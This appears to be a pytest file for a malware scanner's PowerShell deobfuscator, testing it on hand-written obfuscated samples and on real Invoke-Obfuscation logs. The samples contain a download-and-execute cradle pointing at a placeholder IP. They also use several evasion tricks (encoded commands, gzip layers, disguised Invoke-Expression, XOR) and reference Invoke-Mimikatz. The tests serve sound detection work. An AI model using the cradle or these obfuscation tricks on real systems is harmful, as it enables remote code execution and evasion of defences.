"""PowerShell deobfuscation: each technique on a hand-written sample, then real Invoke-Obfuscation
script blocks from DeepBlueCLI's EVTX."""

from __future__ import annotations

import base64
import gzip
import json
from pathlib import Path

import evtx
import pytest

from phagocyte.analysers.limits import Budget, ScanLimits
from phagocyte.analysers.scan import Scanner
from phagocyte.analysers.scripts.powershell import deobfuscate_powershell
from tests.conftest import evaldata

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')"


def deob(text: str) -> str:
    return deobfuscate_powershell(text, Budget(ScanLimits())).text


def test_encoded_command_is_decoded() -> None:
    enc = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
    out = deob(f"powershell.exe -nop -w hidden -enc {enc}")
    assert "DownloadString('http://10.1.2.3/a.ps1')" in out


def test_char_array_concat_format_replace_and_ticks() -> None:
    chars = ",".join(str(ord(c)) for c in "DownloadString")
    assert "DownloadString" in deob(f"$x = ([char[]]({chars}) -join '')")
    assert "'Net.WebClient'" in deob("$a = 'Net.' + 'Web' + \"Client\"")
    assert "'Net.WebClient'" in deob("$a = ('{1}{0}' -f 'WebClient','Net.')")
    assert "'Net.WebClient'" in deob("$a = ('NetXWebClient' -replace 'X','.')")
    assert "'Net.WebClient'" in deob("$a = ('NetXWebClient').Replace('X','.')")
    assert "New-Object" in deob("Ne`W-oB`jE`cT Net.WebClient")


def test_gzip_base64_layer_and_iex_unwrapped() -> None:
    blob = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
    script = ("IEX (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream("
              f"(New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}'))),"
              "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()")
    out = deob(script)
    assert "DownloadString('http://10.1.2.3/a.ps1')" in out


def test_iex_disguises_are_named() -> None:
    for disguise in ("& ( $eNv:COmSPEc[4,15,25]-JoIN'')", ".( $PSHome[4]+$PSHome[30]+'x')",
                     "&((gv '*mdr*').name[3,11,2]-join'')", "& ('ie'+'x')"):
        assert "Invoke-Expression" in deob(f"{disguise} ('Write-Host 1')"), disguise


def test_bxor_and_reversed_strings() -> None:
    key = 0x5D
    codes = ",".join(str(ord(c) ^ key) for c in "Invoke-Mimikatz")
    assert "Invoke-Mimikatz" in deob(f"([char[]]({codes}) |%{{[char]($_ -bxor 0x5d)}}) -join ''")
    assert "'Invoke-Mimikatz'" in deob("$v = 'ztakimiM-ekovnI'[-1..-15] -join ''")


def test_nested_layers_stop_at_the_depth_limit() -> None:
    text = "Write-Host 'end'"
    for _ in range(12):
        b64 = base64.b64encode(text.encode()).decode()
        text = f"IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64}')))"
    budget = Budget(ScanLimits(max_layers=4))
    r = deobfuscate_powershell(text, budget)
    assert budget.stopped and "depth" in budget.stopped
    assert r.rounds == 4
    full = deobfuscate_powershell(text, Budget(ScanLimits()))
    assert "Write-Host 'end'" in full.text


def _script_blocks(path: Path) -> list[str]:
    out = []
    for rec in evtx.PyEvtxParser(str(path)).records_json():
        ev = json.loads(rec["data"])["Event"]
        eid = ev["System"]["EventID"]
        eid = eid if isinstance(eid, int) else int(eid.get("#text", 0))
        if eid == 4104:
            out.append(ev["EventData"]["ScriptBlockText"])
    return out


@pytest.mark.evaldata
def test_real_invoke_obfuscation_blocks_name_what_they_do() -> None:
    root = evaldata("deepbluecli_evtx") / "evtx"
    scanner = Scanner()
    decoded = 0
    obfuscated = 0
    for name in ("Powershell-Invoke-Obfuscation-encoding-menu.evtx", "Powershell-Invoke-Obfuscation-string-menu.evtx"):
        for block in dict.fromkeys(_script_blocks(root / name)):
            if "mimikatz" in block.lower() or len(block) < 300:
                continue  # plain text, or the tool's own helper blocks
            obfuscated += 1
            v = scanner.scan_text(block, "powershell")
            text = v.deobfuscated or ""
            if "Invoke-Mimikatz" in text and "DownloadString" in text:
                decoded += 1
                assert v.label == "malicious", v.to_json()
                assert "raw.githubusercontent.com" in v.indicators.get("domain", [])
    assert obfuscated >= 10
    # Whitespace encoding, special-character encoding and SecureString are not decoded (see docs/scan.md).
    assert decoded / obfuscated >= 0.6, f"{decoded}/{obfuscated} decoded"
